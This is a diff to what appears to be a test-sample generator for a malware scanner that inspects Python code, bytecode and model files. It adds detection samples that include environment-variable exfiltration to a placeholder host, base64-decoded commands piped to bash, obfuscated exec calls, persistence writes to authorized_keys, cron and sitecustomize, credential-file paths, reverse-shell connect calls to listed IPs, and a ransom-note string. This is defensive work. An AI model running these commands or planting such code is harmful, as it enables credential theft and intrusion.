@@ -154,6 +154,7 @@ def python():
     no("python.overwrites-loader", "x = torch.load(p)", "torch.load == f",
        "setattr(model, 'forward', f)")
     inert("python.overwrites-loader", over)
+    add("python.overwrites-loader", "no", "builtins.open = f", fmt="text", member="a.py")
 
     nat = "ctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)"
     yes("python.native-code", nat,
@@ -174,6 +175,8 @@ def theft():
     no("theft.credential-files", "~/.ssh/known_hosts", "/etc/passwd",
        "~/.cache/huggingface/hub", "id_rsa", "/proc/self/maps", "~/.aws/config")
     inert("theft.credential-files", ssh)
+    add("theft.credential-files", "no", "~/.pypirc", fmt="text", member="a.py")
+    add("theft.credential-files", "yes", ssh + " ~/.pypirc", fmt="text", member="a.py")
 
     web = "~/.config/google-chrome/Chrome/Default/Login Data"
     yes("theft.browser-data", web, "CryptUnprotectData(",
@@ -209,6 +212,7 @@ def theft():
     no("theft.cloud-metadata", "169.254.169.254", "169.254.170.20",
        "metadata.google.internal")
     inert("theft.cloud-metadata", meta)
+    add("theft.cloud-metadata", "no", meta, fmt="text", member="(unpacked)")
 
     env = "requests.post('http://a.invalid', json=dict(os.environ))"
     yes("theft.environment-sent", env, "env | curl -d @- http://a.invalid",
@@ -273,6 +277,76 @@ def binary():
     inert("binary.script-dropped", bang)
 
 
+def short(word):
+    """a short ASCII name as marshal writes it"""
+    return b"\xda" + bytes([len(word)]) + word.encode()
+
+
+def code(*words):
+    """the front of marshalled code, with some of its names"""
+    return b"\xe3" + bytes(16) + b"\x40\0\0\0" + b"".join(map(short, words))
+
+
+def bytecode():
+    runs = "bytecode.runs-programs"
+    yes(runs, code("os", "system"), code("subprocess", "Popen"),
+        code("subprocess", "check_output"), code("os", "popen"))
+    no(runs, code("os", "path", "join"), code("system"), b"\x8c\x02os" +
+       b"\x8c\x06system", code("subprocess", "PIPE"), "import os; os.system('x')")
+    inert(runs, code("os", "system"))
+    shells = "bytecode.shell-on-socket"
+    yes(shells, code("socket", "connect", "dup2"), code("socket", "connect", "pty"))
+    no(shells, code("socket", "connect"), code("connect", "dup2"))
+    inert(shells, code("socket", "connect", "dup2"))
+    pyc = b"\xa7\x0d\r\n" + bytes(12) + code()
+    yes("bytecode.module", b"abc" + pyc, b"\xcb\x0d\r\n" + bytes(12) + code())
+    no("bytecode.module", pyc[:4] + bytes(40), b"\xa7\x0d\r\n\x09" + pyc[5:], code())
+    add("bytecode.module", "no", pyc, fmt="text", member="a.pyc")
+    inert("bytecode.module", pyc)
+
+
+def campaign():
+    home = "connect(('107.173.7.141', 4243))"
+    yes("campaign.model-shells", home, "210.117.212.93", "136.243.156.120")
+    no("campaign.model-shells", "107.173.7.14", "210.117.212.9", "192.0.2.1")
+    inert("campaign.model-shells", home)
+    onion = "a2" * 28 + ".onion"
+    note = "All your files have been encrypted! Pay 1 BTC to recover the key"
+    yes("campaign.ransom-note", note, "your data are encrypted, see " + onion)
+    no("campaign.ransom-note", "your files have been encrypted",
+       "your files are encrypted at rest with a bitcoin of effort", "pay BTC")
+    inert("campaign.ransom-note", note)
+    yes("campaign.hidden-service", "http://" + onion + "/x")
+    no("campaign.hidden-service", "an.onion", "a2" * 8 + ".onion", "x" + onion)
+    inert("campaign.hidden-service", "http://" + onion)
+    spy = "pynput.keyboard.Listener(f)\nrequests.post(u, x)"
+    yes("campaign.spies", spy, "x = ImageGrab.grab()\ns.sendall(x) requests.post(x)")
+    no("campaign.spies", "pynput.keyboard", "requests.post(u)", "ImageGrab.grab()")
+    inert("campaign.spies", spy)
+
+
+def hidden():
+    run = "echo ZWNobyBtYXJrZXI= | base64 -d | bash"
+    yes("shell.encoded-run", run, "base64 --decode x | python3 -",
+        "xxd -r -p x | sh", "eval $(echo x | base64 -d)", "openssl base64 -d <x | sh")
+    no("shell.encoded-run", "base64 -d x > y", "base64 x | sha256sum", "xxd -r x")
+    inert("shell.encoded-run", run)
+    spell = "exec(''.join(map(chr, [112, 114])))"
+    yes("python.obfuscated", spell, "eval(chr(112)+chr(114))",
+        "getattr(__builtins__, '\\x65\\x76\\x61\\x6c')", "__builtins__['\\x65\\x76']",
+        "exec(')rekram(tnirp'[::-1])", "exec(''.join([chr(x) for x in y]))")
+    no("python.obfuscated", "''.join(map(chr, x))", "chr(112)+chr(114)",
+       "getattr(builtins, 'len')", "exec(code)", "'abc'[::-1]")
+    inert("python.obfuscated", spell)
+    stay = "open('/usr/lib/python3/sitecustomize.py','a').write(x)"
+    yes("python.persistence", stay, "open(p+'/site-packages/x.pth', 'w')",
+        "open(os.path.expanduser('~/.bashrc'), 'a')",
+        "open('/root/.ssh/authorized_keys','a')", "open('/etc/cron.d/x', 'w')")
+    no("python.persistence", "open('sitecustomize.py')", "open('~/.bashrc','r')",
+       "open('x.pth', 'wb')")
+    inert("python.persistence", stay)
+
+
 def imports():
     def pair(rule, want, *names, **facts):
         add(rule, want, imports=";".join(names), **facts)
@@ -310,7 +384,8 @@ def imports():
 
 
 def main():
-    for part in shell, python, theft, miner, binary, imports:
+    for part in (shell, python, theft, miner, binary, bytecode, campaign, hidden,
+                 imports):
         part()
     with open(sys.argv[1], "wb") as out:
         for rule, want, fmt, member, active, names, data in samples:
